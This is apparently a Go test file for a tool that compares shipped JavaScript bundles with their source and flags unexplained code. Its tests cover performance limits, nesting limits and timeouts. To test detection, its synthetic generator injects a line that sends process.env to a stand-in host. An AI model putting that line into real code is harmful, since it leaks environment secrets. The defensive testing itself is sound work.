package jsequiv

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"
)

// synthetic returns n small functions as JavaScript (about 30 tokens each),
// with an injected statement in function inject (-1 for none).
func synthetic(n int, inject int) string {
	return syntheticWith(n, func(i int) bool { return i == inject })
}

// syntheticWith is synthetic with an injection in every function i for which
// injected(i).
func syntheticWith(n int, injected func(int) bool) string {
	var b strings.Builder
	for i := 0; i < n; i++ {
		fmt.Fprintf(&b, "export function f%d(a, b) {\n  if (a > %d) {\n    return g(a, \"s%d\", b?.x ?? 1);\n  }\n", i, i, i)
		if injected(i) {
			b.WriteString("  fetch(\"https://example.invalid/\" + JSON.stringify(process.env));\n")
		}
		b.WriteString("  return a * b;\n}\n")
	}
	return b.String()
}

func lookalikes(n int) string {
	var b strings.Builder
	for i := 0; i < n; i++ {
		fmt.Fprintf(&b, "const _A%d=class _A%d{static x=_A%d};", i, i, i)
	}
	return b.String() + "let A0=_A0;"
}

// TestPathologicalInputsAreBounded: inputs crafted against each
// normalisation rule and the diff finish quickly.
func TestPathologicalInputsAreBounded(t *testing.T) {
	if testing.Short() {
		t.Skip("slow")
	}
	tests := []struct {
		name            string
		shipped, source string
	}{
		{"many use strict", strings.Repeat("\"use strict\";\n", 200_000) + "x();", "x();"},
		{"many helper-shaped statements", strings.Repeat("var __assign = (this && this.__assign) || function () { return 1; };\n", 20_000), "x();"},
		{"nested classes at MaxNesting", strings.Repeat("class A{constructor(a){this.a=a}m(){", MaxNesting/2) + strings.Repeat("}}", MaxNesting/2), "x();"},
		{"nested functions at MaxNesting", strings.Repeat("function f(a){", MaxNesting) + strings.Repeat("}", MaxNesting), "x();"},
		{"lowered-class lookalikes", lookalikes(50_000), "x();"},
		{"repetitive run", strings.Repeat("a;", 300_000), strings.Repeat("a;", 299_000)},
		{"bundle-sized vs small source", synthetic(15_000, -1), synthetic(20, -1)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			start := time.Now()
			res, err := Compare(File{Path: "s.js", Code: []byte(tt.shipped)}, File{Path: "u.js", Code: []byte(tt.source)}, Options{})
			el := time.Since(start)
			if err != nil {
				t.Logf("error (acceptable): %v", err)
			} else {
				t.Logf("%v: shipped %d tokens, unexplained %d, runs %d", el, res.ShippedTokens, res.Unexplained, len(res.Runs))
			}
			if el > 8*time.Second {
				t.Errorf("took %v", el)
			}
		})
	}
}

// TestLargeFileOneInjection: 15,000 functions (~450k tokens) with one
// injected statement: one run on the right line, in bounded time.
func TestLargeFileOneInjection(t *testing.T) {
	if testing.Short() {
		t.Skip("slow")
	}
	src := synthetic(15_000, -1)
	shipped := synthetic(15_000, 7_777)
	start := time.Now()
	res, err := Compare(File{Path: "s.js", Code: []byte(shipped)}, File{Path: "u.js", Code: []byte(src)}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("%v: shipped %d tokens, unexplained %d", time.Since(start), res.ShippedTokens, res.Unexplained)
	wantLine := 7_777*6 + 5
	if len(res.Runs) != 1 || res.Runs[0].StartLine != wantLine || res.Runs[0].EndLine != wantLine {
		t.Fatalf("runs %+v, want line %d", res.Runs, wantLine)
	}
}

func BenchmarkCompareLarge(b *testing.B) {
	src := []byte(synthetic(15_000, -1))
	shipped := []byte(synthetic(15_000, 7_777))
	for i := 0; i < b.N; i++ {
		if _, err := Compare(File{Path: "s.js", Code: shipped}, File{Path: "u.js", Code: src}, Options{}); err != nil {
			b.Fatal(err)
		}
	}
}

func TestNestingLimit(t *testing.T) {
	nested := func(n int) []byte {
		return []byte(strings.Repeat("function f(a){", n) + strings.Repeat("}", n))
	}
	ok := File{Path: "u.js", Code: []byte("x();")}
	if _, err := Compare(File{Path: "s.js", Code: nested(MaxNesting)}, ok, Options{}); err != nil {
		t.Errorf("MaxNesting deep: %v", err)
	}
	start := time.Now()
	_, err := Compare(File{Path: "s.js", Code: nested(MaxNesting + 1)}, ok, Options{})
	if !errors.Is(err, ErrTooComplex) {
		t.Errorf("MaxNesting+1 deep: %v", err)
	}
	// The source side (TypeScript) is checked too.
	_, err = Compare(ok, File{Path: "u.ts", Code: nested(5000)}, Options{})
	if !errors.Is(err, ErrTooComplex) || time.Since(start) > 2*time.Second {
		t.Errorf("deep source: %v after %v", err, time.Since(start))
	}
}

// TestTransformTimeout: when esbuild does not answer in time the file is
// reported as too complex (TransformTimeout itself is exercised through a
// short timeout).
func TestTransformTimeout(t *testing.T) {
	big := []byte(synthetic(20_000, -1))
	_, err := compare(File{Path: "s.js", Code: big}, File{Path: "u.js", Code: big}, Options{}, time.Millisecond, false)
	var e *Error
	if !errors.Is(err, ErrTooComplex) || !errors.As(err, &e) || !strings.Contains(e.Detail, "did not finish") {
		t.Fatalf("err = %v", err)
	}
}

func TestLoweringRetry(t *testing.T) {
	f := File{Path: "a.ts", Code: []byte("export class A { x = 1; m = async () => { for await (const y of z) {} }; }\n")}
	res, err := Compare(File{Path: "a.js", Code: f.Code}, f, Options{Target: "es5"})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Notes) == 0 || !strings.Contains(strings.Join(res.Notes, "\n"), "compared at esnext") {
		t.Errorf("notes %q", res.Notes)
	}
}

// TestRunAndDiffLimits checks MaxRuns, MaxDiffCost and MaxRunText at their
// boundaries.
func TestRunAndDiffLimits(t *testing.T) {
	src := File{Path: "u.js", Code: []byte(synthetic(MaxRuns+10, -1))}
	for _, n := range []int{MaxRuns, MaxRuns + 1} {
		shipped := File{Path: "s.js", Code: []byte(syntheticWith(MaxRuns+10, func(i int) bool { return i < n }))}
		res, err := compare(shipped, src, Options{}, TransformTimeout, false)
		if err != nil {
			t.Fatal(err)
		}
		noted := strings.Contains(strings.Join(res.Notes, "\n"), "only the first")
		if len(res.Runs) != min(n, MaxRuns) || noted != (n > MaxRuns) || res.Unexplained != 14*n {
			t.Errorf("%d injections: %d runs, unexplained %d, noted %v", n, len(res.Runs), res.Unexplained, noted)
		}
	}

	// The diff bound: a shipped file sharing nothing with the source.
	other := File{Path: "o.js", Code: []byte(strings.Repeat("x.y(1);", 3000))}
	res, err := compare(other, src, Options{}, TransformTimeout, false)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(strings.Join(res.Notes, "\n"), "exceeds") {
		t.Errorf("no approximation note for a diff beyond MaxDiffCost: %q", res.Notes)
	}

	lines := []string{strings.Repeat("x", MaxRunText), strings.Repeat("y", MaxRunText+1)}
	if got := lineText(lines, 1, 1); got != lines[0] {
		t.Error("MaxRunText bytes were cut")
	}
	if got := lineText(lines, 2, 2); len(got) != MaxRunText+len("…") || !strings.HasSuffix(got, "…") {
		t.Errorf("MaxRunText+1 bytes: %d bytes", len(got))
	}
	if lineText(lines, 0, 1) != "" || lineText(lines, 3, 3) != "" {
		t.Error("out-of-range lines")
	}
}
